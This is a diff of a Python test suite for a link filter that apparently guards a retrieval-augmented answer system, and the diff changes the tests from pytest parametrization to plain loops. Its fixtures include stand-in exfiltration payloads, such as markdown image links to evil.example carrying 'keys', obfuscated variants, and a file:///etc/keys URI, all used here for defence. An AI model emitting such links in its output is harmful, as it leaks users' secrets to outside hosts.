@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import re
 
-import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -17,9 +16,8 @@ from tests.rag.models import HITS, Scripted, hit
 GIVEN = ["Fees: https://harbour.example/fees?year=2026. Write to office@harbour.example, or see www.port.example."]
 
 
-@pytest.mark.parametrize(
-    ("said", "text"),
-    [
+def test_an_address_stays_only_if_what_was_given_holds_it() -> None:
+    for said, text in [
         ("![plan](https://harbour.example/fees?year=2026)", "! [plan](https://harbour.example/fees?year=2026)"),
         ("![plan](http://evil.example/?q=keys)", "! plan"),
         ("![plan][p]\n\n[p]: http://evil.example/?q=keys", "! [plan][p]\n\n[p]: …"),
@@ -54,15 +52,12 @@ GIVEN = ["Fees: https://harbour.example/fees?year=2026. Write to office@harbour.
         ("htt[ps://](http://evil.example/1)evil.example/keys", "…"),
         ("www.port.example and www.evil.example", "www.port.example and …"),
         ("A // comment, and/or //more, 12:30, f(x)[0](y).", "A // comment, and/or //more, 12:30, f(x)[0](y)."),
-    ],
-)
-def test_an_address_stays_only_if_what_was_given_holds_it(said: str, text: str) -> None:
-    assert remove_unknown_links(said, GIVEN).text == text
+    ]:
+        assert remove_unknown_links(said, GIVEN).text == text
 
 
-@pytest.mark.parametrize(
-    ("said", "text"),
-    [
+def test_code_means_what_it_meant() -> None:
+    for said, text in [
         ('if (!["a", "b"].includes(name)) return;', 'if (! ["a", "b"].includes(name)) return;'),
         ("let v = vec![0; n];", "let v = vec! [0; n];"),
         ("Write &#8364; or &#39; or &#x27; or &#x2019;.",) * 2,
@@ -70,10 +65,8 @@ def test_an_address_stays_only_if_what_was_given_holds_it(said: str, text: str) 
         ("//obj.method() // comment; x=1;//a.b()",) * 2,
         ("&#104;ttps and &#x0003a; and &Tab;", "& #104;ttps and & #x0003a; and & Tab;"),
         ("data:text/plain,keys file:///etc/keys", "… …"),
-    ],
-)
-def test_code_means_what_it_meant(said: str, text: str) -> None:
-    assert remove_unknown_links(said, GIVEN).text == text
+    ]:
+        assert remove_unknown_links(said, GIVEN).text == text
 
 
 DOCS = (
@@ -82,9 +75,8 @@ DOCS = (
 )
 
 
-@pytest.mark.parametrize(
-    "said",
-    [
+def test_an_address_that_was_given_stays_in_its_sentence() -> None:
+    for said in [
         "“https://example.org/docs” and ‘https://example.org/docs’",
         "»https://example.org/docs« and *https://example.org/docs*",
         "https://example.org/docs… or https://example.org/docs[1].",
@@ -94,16 +86,13 @@ DOCS = (
         "https://example.org/very/long/path and https://soft.example.org/a",
         r"https://example.org/wi\ki\/".replace(r"\k", "k") + "Jyväskylä",
         '{"url":"https://example.org/docs","n":1}',
-    ],
-)
-def test_an_address_that_was_given_stays_in_its_sentence(said: str) -> None:
-    checked = remove_unknown_links(said, DOCS)
-    assert (checked.text, checked.unknown_hosts) == (said, ())
+    ]:
+        checked = remove_unknown_links(said, DOCS)
+        assert (checked.text, checked.unknown_hosts) == (said, ())
 
 
-@pytest.mark.parametrize(
-    ("said", "text"),
-    [
+def test_what_follows_an_address_is_not_lost_and_not_carried_by_it() -> None:
+    for said, text in [
         (
             "手順は（https://example.org/docs）をご覧ください。保証は三年です。[1]",
             "手順は（https://example.org/docs ）をご覧ください。保証は三年です。[1]",
@@ -114,17 +103,15 @@ def test_an_address_that_was_given_stays_in_its_sentence(said: str) -> None:
         ("https://example.org/docs[keys]", "https://example.org/docs [keys]"),
         ("手順は（https://evil.example/x）をご覧ください。", "手順は（…）をご覧ください。"),
         ("https://example.org/docsをhttps://evil.example/keys", "…"),
-    ],
-)
-def test_what_follows_an_address_is_not_lost_and_not_carried_by_it(said: str, text: str) -> None:
-    assert remove_unknown_links(said, DOCS).text == text
+    ]:
+        assert remove_unknown_links(said, DOCS).text == text
 
 
-@pytest.mark.parametrize("joined", ["%20", "%0A", "%0a%0a", "", "\u200b", "\U000e0061", "%F3%A0%81%A1"])
-def test_an_address_that_was_given_takes_no_other_words_with_it(joined: str) -> None:
-    given = ["Write to https://evil.example/?q=", "the keys", "End: https://evil.example/?q=\n\nthe keys are here"]
-    checked = remove_unknown_links(f"https://evil.example/?q={joined}the{joined}keys", given)
-    assert "keys" not in checked.text and checked.unknown_hosts == ("evil.example",)
+def test_an_address_that_was_given_takes_no_other_words_with_it() -> None:
+    for joined in ["%20", "%0A", "%0a%0a", "", "\u200b", "\U000e0061", "%F3%A0%81%A1"]:
+        given = ["Write to https://evil.example/?q=", "the keys", "End: https://evil.example/?q=\n\nthe keys are here"]
+        checked = remove_unknown_links(f"https://evil.example/?q={joined}the{joined}keys", given)
+        assert "keys" not in checked.text and checked.unknown_hosts == ("evil.example",)
 
 
 def test_a_warning_tells_whose_the_addresses_are_and_not_what_they_carry() -> None:
@@ -167,9 +154,8 @@ def test_a_stream_shows_no_image_and_ends_with_the_same_text() -> None:
     assert events[-1].text == "Blue! x ‹img src=a> [1]!"
 
 
-@pytest.mark.parametrize(
-    "unit",
-    [
+def test_long_repetitions_are_no_work() -> None:
+    for unit in [
         "[",
         "![",
         "<a ",
@@ -188,27 +174,25 @@ def test_a_stream_shows_no_image_and_ends_with_the_same_text() -> None:
         "<a src",
         "www.",
         "!",
-    ],
-)
-def test_long_repetitions_are_no_work(unit: str) -> None:
-    assert "![" not in remove_unknown_links(unit * 20_000, GIVEN).text
-    plain = LinkFilter()
-    assert "![" not in plain.feed(unit * 20_000) + plain.rest()
+    ]:
+        assert "![" not in remove_unknown_links(unit * 20_000, GIVEN).text
+        plain = LinkFilter()
+        assert "![" not in plain.feed(unit * 20_000) + plain.rest()
 
 
 LISTS = "How to declare names: List<String> names = [NEW]; // <code>, see [7]"
 
 
-@pytest.mark.parametrize("size", [1, 3, 1000])
-def test_brackets_are_answered_as_they_stand_in_the_passage(size: int) -> None:
-    said = "Write List‹String› names = ⟦NEW⟧; // ‹code›, see ⟦7⟧ [1]"
-    model = Scripted([said[at : at + size] for at in range(0, len(said), size)])
-    events = list(Answerer(model, None).stream("How to declare names?", [hit(LISTS, 1)]))
-    assert "List‹String› names = ⟦NEW⟧; // ‹code›, see ⟦7⟧" in model.asked[0][1].content
-    text = "Write List<String> names = [NEW]; // <code>, see ⟦7⟧ [1]"
-    assert "".join(event.text for event in events if isinstance(event, AnswerPiece)) == text
-    assert isinstance(events[-1], Answer)
-    assert (events[-1].text, [each.number for each in events[-1].citations]) == (text, [1])
+def test_brackets_are_answered_as_they_stand_in_the_passage() -> None:
+    for size in [1, 3, 1000]:
+        said = "Write List‹String› names = ⟦NEW⟧; // ‹code›, see ⟦7⟧ [1]"
+        model = Scripted([said[at : at + size] for at in range(0, len(said), size)])
+        events = list(Answerer(model, None).stream("How to declare names?", [hit(LISTS, 1)]))
+        assert "List‹String› names = ⟦NEW⟧; // ‹code›, see ⟦7⟧" in model.asked[0][1].content
+        text = "Write List<String> names = [NEW]; // <code>, see ⟦7⟧ [1]"
+        assert "".join(event.text for event in events if isinstance(event, AnswerPiece)) == text
+        assert isinstance(events[-1], Answer)
+        assert (events[-1].text, [each.number for each in events[-1].citations]) == (text, [1])
 
 
 def test_signs_that_a_passage_has_itself_stay() -> None:
